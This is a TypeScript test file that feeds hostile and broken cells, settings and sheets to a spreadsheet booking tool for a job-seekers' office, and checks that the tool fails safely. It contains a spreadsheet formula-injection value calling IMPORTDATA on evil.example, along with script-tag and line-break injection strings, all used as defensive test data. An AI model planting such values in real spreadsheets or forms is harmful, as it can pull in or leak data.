// Hostile and broken input through the built bundle (issue 8): every case of corpus.ts goes
// through the check menus, preview, the send menu, the ticks and the sidebar's server functions.
// For each: no uncaught exception, a Japanese message on the row or a clear dialog, no mail for a
// row with errors, every staff-typed cell kept, no formula written by the script, headers of
// every mail sent intact, no personal data in any log. Cases share a few workbooks (one per
// group), each case on its own slot so that they do not clash with each other.
import { afterAll, describe, expect, it } from 'vitest';
import type { Emulator } from '../../emulator/index';
import { BOOKING, type BookingField, SETTING, SHEET } from '../../src/core/schema';
import { bookingRow, setSetting, workbookWith } from '../bundle/helpers';
import {
  ROW_CASES,
  type RowCase,
  SETTING_CASES,
  type SettingCase,
  SHEET_CASES,
  type SheetCase,
  type Typed,
} from './corpus';
import {
  expectClean,
  expectCleanHeaders,
  expectNoNewFormula,
  expectNoPersonalData,
  expectStaffCellsKept,
  slots,
  tally,
} from './harness';

const STAFF_COLUMN = '職員メモ';
const STAFF = 'staff@hellowork.example.jp';
const IMPORT_TEXT = `'=IMPORTDATA("https://evil.example/x")`;
const BASE: Partial<Record<BookingField, Typed>> = {
  channel: '電話',
  name: '見本 一郎',
  seekerNo: '33010-00000001',
  email: 'ichiro@example.jp',
  office: '倉敷わかもの',
  officer: '担当 甲',
  meetingUrl: 'https://teleoffice.example.jp/meet/abc123',
};

/** A workbook after 初期設定 with the sample roster, a staff column and one row per case. */
function rowsWorkbook(cases: readonly RowCase[]): { emu: Emulator; firstRow: number } {
  const emu = workbookWith([]);
  setSetting(emu, SETTING.replyTo, 'soudan@hellowork.example.jp');
  setSetting(emu, SETTING.alertTo, STAFF);
  const headers = (emu.person.values(SHEET.bookings)[0] ?? []).map(String);
  emu.edit(SHEET.bookings, `${letter(headers.length + 1)}1`, [[STAFF_COLUMN]]);
  headers.push(STAFF_COLUMN);
  const assigned = slots(cases.length);
  const values = cases.map((c, i) => {
    const row: Record<string, Typed> = { ...BASE, ...assigned[i]!, ...c.row };
    return headers.map((h) => {
      const field = (Object.keys(BOOKING) as BookingField[]).find((f) => BOOKING[f] === h);
      const key = field ?? (h === STAFF_COLUMN ? STAFF_COLUMN : '');
      return key in row ? row[key]! : '';
    });
  });
  emu.edit(SHEET.bookings, 'A2', values);
  return { emu, firstRow: 2 };
}

function letter(column: number): string {
  let out = '';
  for (let n = column; n > 0; n = Math.floor((n - 1) / 26)) {
    out = String.fromCharCode(65 + ((n - 1) % 26)) + out;
  }
  return out;
}

/** Everything a person or a trigger can do to the rows, answering yes to every question. */
function runEverything(emu: Emulator, rowCount: number): string[] {
  emu.ui.setDefault('accept');
  expectClean(emu.menu('すべての予約をチェック'), 'check all');
  const firstCheck = emu.workbook.sheetByName(SHEET.bookings)
    ? emu.records(SHEET.bookings).map((r) => String(r[BOOKING.checkResult] ?? ''))
    : [];
  if (emu.workbook.sheetByName(SHEET.bookings)) {
    emu.select(SHEET.bookings, [
      `A2:B${Math.min(rowCount + 1, 20)}`,
      `C${rowCount}:C${rowCount + 1}`,
    ]);
    expectClean(emu.menu('選択行をチェック'), 'check selected');
    for (const row of [2, Math.floor(rowCount / 2), rowCount + 1]) {
      emu.select(SHEET.bookings, [`D${row}`]);
      expectClean(emu.menu('招待メールをプレビュー'), `preview row ${row}`);
    }
  }
  expectClean(emu.menu('招待メールを送信'), 'send');
  expectClean(emu.fireTimeTrigger('onTenMinuteTick'), 'tick');
  expectClean(emu.fireTimeTrigger('onDailyTick'), 'daily tick');
  expectClean(emu.menu('空き枠を表示'), 'sidebar');
  expectClean(emu.callServer('sidebarGetFreeSlots', { office: '' }), 'free slots');
  expectClean(emu.menu('月次集計を更新'), 'monthly');
  expectClean(emu.menu('過去の予約を保管'), 'archive');
  return firstCheck;
}

const PERSONAL = ['見本 一郎', '見本', 'ichiro@example.jp', '33010-00000001'];

describe('hostile cells in 予約 (one workbook, one slot per case)', () => {
  const { emu } = rowsWorkbook(ROW_CASES);
  const before = emu.snapshot();
  const firstCheck = runEverything(emu, ROW_CASES.length);
  const after = emu.snapshot();
  const rows = emu.records(SHEET.bookings);

  it('runs every entry point without an uncaught exception, and reports by dialog', () => {
    expect(rows).toHaveLength(ROW_CASES.length);
    const messages = emu.ui.dialogs.map((d) => d.message);
    expect(messages.some((m) => /エラーのある予約/.test(m))).toBe(true);
  });

  it('keeps every staff-typed cell and writes no formula', () => {
    expectStaffCellsKept(before, after);
    expectNoNewFormula(before, after);
  });

  it('mails no header carrying a line break; HTML parts escape what staff typed', () => {
    expectCleanHeaders(emu);
    for (const mail of emu.mail.sent) {
      expect(mail.htmlBody ?? '').not.toMatch(/<script|<img|<b>/i);
    }
  });

  it('leaves no personal data in any log or in 操作ログ', () => {
    expectNoPersonalData(emu, PERSONAL);
  });

  it.each(ROW_CASES.map((c, i) => [c.title, c, i] as const))('%s', (_title, c, i) => {
    tally.cases++;
    const row = rows[i]!;
    const text = String(row[BOOKING.checkResult] ?? '');
    const id = String(row[BOOKING.id] ?? '');
    // Invitations only (staff alerts list ids too), matched on the line that carries the id.
    const mails = emu.mail.sent.filter(
      (m) =>
        m.to !== STAFF && m.body.split('\n').includes(`・予約番号：${id.replace(/\s+/g, ' ')}`),
    );
    const lines = text.split('\n');
    expect(text, 'チェック結果 is written').not.toBe('');
    // `OK`, or a count line (エラー2件・注意1件) and then the messages.
    for (const line of lines.slice(lines[0] === 'OK' ? 0 : 1)) {
      expect(line).toMatch(/^(OK$|エラー:|注意:)/);
    }
    if (lines[0] !== 'OK') expect(lines[0]).toMatch(/^(エラー\d+件(・注意\d+件)?|注意\d+件)$/);
    switch (c.outcome.kind) {
      case 'error': {
        const errors = lines.filter((l) => l.startsWith('エラー:'));
        expect(errors.length, text).toBeGreaterThan(0);
        if (c.outcome.names) expect(errors.join('\n')).toContain(c.outcome.names);
        expect(mails).toHaveLength(0);
        break;
      }
      case 'sendable':
        expect(text, text).not.toMatch(/エラー:/);
        if (c.outcome.warns) {
          // Warnings are for the person taking the booking: read them from the first check.
          const warned = firstCheck[i]!.split('\n').filter((l) => l.startsWith('注意:'));
          expect(warned.join('\n')).toContain(c.outcome.warns);
        }
        expect(mails, `mails for ${id}`).toHaveLength(1);
        break;
      case 'notSent':
        expect(mails).toHaveLength(0);
        break;
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Broken 設定 and broken sheets: one small workbook per case (settings are global)

const SMALL = [
  bookingRow(),
  bookingRow({
    seekerNo: '33010-00000002',
    name: '試験 花子',
    office: '倉敷中央',
    officer: '担当 乙',
    email: 'hanako@example.jp',
  }),
  bookingRow({ start: '10:30', seekerNo: '33010-00000003', name: '例示 三郎', officer: '担当 丙' }),
];
const SMALL_PERSONAL = [
  ...PERSONAL,
  '試験 花子',
  'hanako@example.jp',
  '33010-00000002',
  '例示 三郎',
];

function smallWorkbook(): Emulator {
  const emu = workbookWith(SMALL);
  setSetting(emu, SETTING.replyTo, 'soudan@hellowork.example.jp');
  setSetting(emu, SETTING.alertTo, STAFF);
  return emu;
}

function rowOf(emu: Emulator, sheet: string, key: string): number {
  return emu.person.values(sheet).findIndex((r) => String(r[0]) === key) + 1;
}

function breakSetting(emu: Emulator, c: SettingCase): void {
  const row = rowOf(emu, SHEET.settings, c.key);
  expect(row, c.key).toBeGreaterThan(0);
  if (c.value === undefined) emu.person.deleteRows(SHEET.settings, row, 1);
  else emu.edit(SHEET.settings, `B${row}`, [[c.value]]);
}

function headerColumn(emu: Emulator, sheet: string, header: string): string {
  const index = (emu.person.values(sheet)[0] ?? []).map(String).indexOf(header);
  expect(index, header).toBeGreaterThanOrEqual(0);
  return letter(index + 1);
}

function clearSheet(emu: Emulator, sheet: string, fromRow = 1): void {
  if (!emu.workbook.sheetByName(sheet)) return;
  const values = emu.person.values(sheet);
  const width = Math.max(1, ...values.map((r) => r.length));
  const height = values.length - fromRow + 1;
  if (height < 1) return;
  const blank = Array.from({ length: height }, () => Array.from({ length: width }, () => ''));
  emu.person.setValues(sheet, `A${fromRow}`, blank);
}

function breakSheet(emu: Emulator, c: SheetCase): void {
  switch (c.break) {
    case 'duplicateHeader':
      emu.edit(c.sheet, `${headerColumn(emu, c.sheet, '備考')}1`, [[c.header!]]);
      break;
    case 'deleteHeader':
      emu.edit(c.sheet, `${headerColumn(emu, c.sheet, c.header!)}1`, [['']]);
      break;
    case 'renameHeader':
      emu.edit(c.sheet, `${headerColumn(emu, c.sheet, c.header!)}1`, [[`${c.header!}（旧）`]]);
      break;
    case 'clearHeaderRow': {
      const width = (emu.person.values(c.sheet)[0] ?? []).length;
      emu.person.setValues(c.sheet, 'A1', [Array.from({ length: width }, () => '')]);
      break;
    }
    case 'emptySheet':
      clearSheet(emu, c.sheet);
      break;
    case 'deleteSheet':
      emu.workbook.removeSheet(emu.workbook.sheetByName(c.sheet)!);
      break;
    case 'rosterNoKeyColumn':
      emu.edit(c.sheet, `${headerColumn(emu, c.sheet, '求職番号')}1`, [['番号']]);
      break;
    case 'rosterDuplicates':
      emu.edit(c.sheet, 'A6', [
        ['33010-00000001', '別人 五郎', '倉敷中央', '担当 乙', '2026/04/01'],
        ['３３０１０－０００００００１', '見本 一郎', '倉敷わかもの', '担当 甲', '2026/04/01'],
      ]);
      break;
    case 'rosterHostile':
      emu.edit(c.sheet, 'A6', [
        [`'=IMPORTDATA("https://evil.example")`, '<script>x</script>', '倉敷中央', '\r\n', 'TRUE'],
        ['TRUE', 12345, 42, new Date('1899-12-30T00:00:00Z'), '2100/01/01'],
        ['あ'.repeat(10_000), '\u202e逆', '倉敷\nわかもの', '😀', '明日'],
      ]);
      break;
    case 'settingsDuplicateKey': {
      const last = emu.person.values(c.sheet).length + 1;
      emu.edit(c.sheet, `A${last}`, [[c.header!, '別の版', '']]);
      break;
    }
    case 'settingsHeaderGone':
    case 'logHeaderGone':
      emu.person.setValues(c.sheet, 'A1', [['', '', '']]);
      break;
  }
}

function expectSafeOutcome(emu: Emulator, before: ReturnType<Emulator['snapshot']>): void {
  const after = emu.snapshot();
  const present = new Set(after.sheets.map((s) => s.name));
  expectStaffCellsKept(
    before,
    after,
    [SHEET.bookings, SHEET.roster, SHEET.settings, SHEET.closedDays].filter((n) => present.has(n)),
  );
  expectNoNewFormula(before, after);
  expectCleanHeaders(emu);
  expectNoPersonalData(emu, SMALL_PERSONAL);
  // Never an invitation for the 10:30 row, which has an エラー in every setting.
  expect(emu.mail.sent.filter((m) => m.to === 'ichiro@example.jp').length).toBeLessThanOrEqual(1);
  expect(emu.mail.sent.filter((m) => m.to === 'hanako@example.jp').length).toBeLessThanOrEqual(1);
  for (const mail of emu.mail.sent) expect(mail.htmlBody ?? '').not.toMatch(/<script|<img/i);
}

/** What the person was told: every dialog and toast since, and every row's チェック結果. */
function toldToStaff(emu: Emulator, dialogsBefore: number): string {
  const dialogs = emu.ui.dialogs.slice(dialogsBefore).map((d) => d.message);
  const toasts = emu.toasts().map((t) => JSON.stringify(t));
  const rows = emu.workbook.sheetByName(SHEET.bookings)
    ? emu.records(SHEET.bookings).map((r) => String(r[BOOKING.checkResult] ?? ''))
    : [];
  return [...dialogs, ...toasts, ...rows].join('\n');
}

describe('a 設定 with missing or malformed values', () => {
  it.each(SETTING_CASES.map((c) => [c.title, c] as const))('%s', (_title, c) => {
    tally.cases++;
    const emu = smallWorkbook();
    breakSetting(emu, c);
    const before = emu.snapshot();
    const dialogs = emu.ui.dialogs.length;
    runEverything(emu, SMALL.length);
    const told = toldToStaff(emu, dialogs);
    expect(told).toMatch(/[ぁ-んァ-ヶ一-龠]/);
    if (c.mentions) expect(told).toContain(`設定「${c.mentions}`);
    expectSafeOutcome(emu, before);
  });
});

describe('broken sheets: duplicated, deleted or renamed headers, empty or missing sheets', () => {
  it.each(SHEET_CASES.map((c) => [c.title, c] as const))('%s', (_title, c) => {
    tally.cases++;
    const emu = smallWorkbook();
    breakSheet(emu, c);
    const before = emu.snapshot();
    const dialogs = emu.ui.dialogs.length;
    runEverything(emu, SMALL.length);
    const told = toldToStaff(emu, dialogs);
    expect(told).toMatch(/[ぁ-んァ-ヶ一-龠]/);
    if (c.mentions) expect(told).toContain(c.mentions);
    expectSafeOutcome(emu, before);
  });
});

describe('onEdit keeps text as text', () => {
  it('a multi-row edit never turns formula-looking text in 受付日時/最終更新 into a formula', () => {
    tally.cases++;
    const emu = workbookWith([bookingRow(), bookingRow({ start: '11:00' })]);
    const headers = (emu.person.values(SHEET.bookings)[0] ?? []).map(String);
    const updated = letter(headers.indexOf(BOOKING.updatedAt) + 1);
    const note = letter(headers.indexOf(BOOKING.note) + 1);
    // Text a person left in a script-owned cell of an otherwise empty row 4.
    emu.person.setValues(SHEET.bookings, `${updated}4`, [[IMPORT_TEXT]]);
    const before = emu.snapshot();
    // Then types into 備考 of rows 2–4 at once: rows 2–3 are stamped, row 4 is written back.
    const runs = emu.edit(SHEET.bookings, `${note}2`, [['a'], ['b'], ['']]);
    for (const run of runs) expectClean(run, 'onEdit');
    expectNoNewFormula(before, emu.snapshot());
    expect(emu.person.values(SHEET.bookings)[3]![headers.indexOf(BOOKING.updatedAt)]).toBe(
      IMPORT_TEXT.slice(1),
    );
  });
});

afterAll(() => {
  console.log(`hostile input: ${tally.cases} cases, ${tally.runs} runs`);
});
